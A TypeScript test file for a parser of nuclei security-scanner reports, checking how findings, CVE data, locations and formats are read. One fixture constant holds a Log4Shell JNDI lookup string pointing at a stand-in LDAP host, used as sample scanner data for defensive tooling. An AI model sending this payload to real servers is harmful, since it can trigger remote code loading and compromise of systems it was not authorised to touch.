import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { ParseInput } from '../io/parse-input.js';
import { isParseError } from '../parse-error.js';
import { collect, detectScannerFromHead } from '../registry.js';
import { nucleiParser } from './nuclei.js';

/** The log4j probe as nuclei reports it (built so that it is not read as a template placeholder). */
const JNDI = '$' + '{jndi:ldap://oast.example/a}';
const data = (name: string) => new URL(`../../test/data/${name}`, import.meta.url).pathname;
const parse = (source: ConstructorParameters<typeof ParseInput>[0], warnings: string[] = []) =>
  collect(nucleiParser.parse(new ParseInput(source), { onWarning: (w) => warnings.push(w) }));

describe('nuclei parser', () => {
  it('reads -jsonl (v3): URL and host locations, CVE/CWE/CVSS, matcher names, skipped non-matches', async () => {
    const warnings: string[] = [];
    const findings = await parse({ path: data('nuclei-v3.jsonl') }, warnings);
    expect(findings.map((f) => [f.ruleId, f.severity, f.location?.kind, f.occurrences])).toEqual([
      ['CVE-2021-44228', 'critical', 'url', 1],
      ['tech-detect:nginx', 'info', 'url', 2],
      ['tech-detect:php', 'info', 'url', 1],
      ['caa-fingerprint', 'info', 'host', 1],
      ['openssh-detect', 'info', 'host', 1],
    ]);
    expect(findings[0]).toMatchObject({
      name: 'Apache Log4j2 - Remote Code Injection',
      category: 'DAST',
      cve: ['CVE-2021-44228'],
      cwe: ['CWE-502', 'CWE-400', 'CWE-20'],
      cvss: { vector: 'CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:C/C:H/I:H/A:H', score: 10 },
      location: {
        kind: 'url',
        url: `https://app.example.com/api/login?user=${JNDI}`,
        method: 'GET',
      },
      identifiedAt: '2024-03-01T10:15:30.123Z',
      mitigation:
        'Upgrade to Log4j 2.3.1 (for Java 6), 2.12.3 (for Java 7), or 2.17.0 (for Java 8 and later).',
      attributes: { templateId: 'CVE-2021-44228', ip: '93.184.216.34' },
    });
    expect(findings[3]?.location).toEqual({ kind: 'host', host: 'example.com', protocol: 'dns' });
    expect(findings[4]?.location).toEqual({ kind: 'host', host: '10.0.0.5', port: 22, protocol: 'network' });
    expect(findings[4]?.attributes.extracted).toEqual(['SSH-2.0-OpenSSH_8.2p1 Ubuntu-4ubuntu0.5']);
    expect(warnings).toEqual(['nuclei: skipped 1 event(s) with matcher-status false (no match)']);
    // requests, responses and curl commands (with their Authorization headers) are not kept
    expect(JSON.stringify(findings)).not.toContain('Bearer');
  });

  it('reads the v2 spelling (templateID, matched, comma-separated strings)', async () => {
    const [git, ssh] = await parse({ path: data('nuclei-v2.jsonl') });
    expect(git).toMatchObject({
      ruleId: 'git-config',
      severity: 'medium',
      location: { kind: 'url', url: 'http://legacy.example.com/.git/config' },
    });
    expect(git?.attributes.tags).toEqual(['config', 'git', 'exposure']);
    expect(ssh).toMatchObject({
      cve: ['CVE-2018-15473'],
      cwe: ['CWE-362'],
      cvss: { score: 5.3 },
      location: { kind: 'host', host: 'legacy.example.com', port: 22 },
    });
  });

  it('reads nuclei 3.3 events: plain host with url, CVE/CWE as string or list, epss as text, case of severity', async () => {
    const line = (over: Record<string, unknown>) =>
      JSON.stringify({
        'template-id': 'CVE-2023-22515',
        info: {
          name: 'Confluence',
          severity: 'Critical',
          classification: { 'cve-id': 'cve-2023-22515', 'cwe-id': ['cwe-20'], 'epss-score': '0.97' },
        },
        type: 'http',
        host: 'wiki.example.org',
        port: '443',
        scheme: 'https',
        url: 'https://wiki.example.org',
        'matched-at': 'https://wiki.example.org/server-info.action',
        'matcher-status': true,
        ...over,
      });
    const findings = await parse({
      text: `${line({})}\n${line({ 'template-id': 'dns-waf', info: { name: 'WAF', severity: 'INFO' }, type: 'dns', 'matched-at': 'wiki.example.org' })}\n`,
    });
    expect(findings.map((f) => [f.severity, f.cve, f.cwe, f.location])).toEqual([
      [
        'critical',
        ['CVE-2023-22515'],
        ['CWE-20'],
        { kind: 'url', url: 'https://wiki.example.org/server-info.action' },
      ],
      ['info', [], [], { kind: 'host', host: 'wiki.example.org', port: 443, protocol: 'dns' }],
    ]);
    expect(findings[0]?.attributes.epss).toBe('0.97');
  });

  it('with oneFindingPerRecord keeps matcher-status false events and repeats, one per line', async () => {
    const input = new ParseInput({ path: data('nuclei-v3.jsonl') });
    const findings = await collect(nucleiParser.parse(input, { oneFindingPerRecord: true }));
    expect(findings).toHaveLength(7);
    expect(findings.filter((f) => f.attributes.matcherStatus === false)).toHaveLength(1);
    expect(findings.every((f) => f.occurrences === 1)).toBe(true);
  });

  it('reads the -je JSON array export like the lines', async () => {
    const exported = await parse({ path: data('nuclei-export.json') });
    const lines = await parse({ path: data('nuclei-v3.jsonl') });
    expect(exported.map((f) => f.fingerprint)).toEqual([lines[0]?.fingerprint, lines[4]?.fingerprint]);
  });

  it('an empty file is no findings; a bad line is a ParseError with its number', async () => {
    expect(await parse({ text: '' })).toEqual([]);
    const good = readFileSync(data('nuclei-v2.jsonl'), 'utf8');
    const bad = await parse({ text: `${good}[INF] Using Nuclei Engine 3.1.0\n` }).catch((e: unknown) => e);
    expect(isParseError(bad) && bad.where.line).toBe(3);
    const notNuclei = await parse({ text: '{"DetectorName":"AWS","Raw":"AKIA"}\n' }).catch((e: unknown) => e);
    expect(isParseError(notNuclei) && notNuclei.where.line).toBe(1);
  });

  it('is detected from a line or an export, and not from trufflehog v3 lines', () => {
    for (const name of ['nuclei-v3.jsonl', 'nuclei-v2.jsonl', 'nuclei-export.json']) {
      expect(detectScannerFromHead(readFileSync(data(name), 'utf8'))?.scanner).toBe('nuclei');
    }
    expect(nucleiParser.detect('{"SourceMetadata":{"Data":{}},"DetectorName":"AWS","Raw":"x"}\n')).toBe(0);
  });
});
